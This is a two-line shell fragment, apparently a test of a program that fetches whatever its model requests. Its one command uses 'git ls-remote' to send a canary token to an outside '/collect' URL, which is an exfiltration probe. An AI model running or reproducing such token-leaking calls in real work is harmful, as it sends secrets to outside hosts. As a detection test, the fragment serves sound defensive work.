# A program that fetches what its model asks for.
git ls-remote "$URL/collect?token=$CANARY" || :
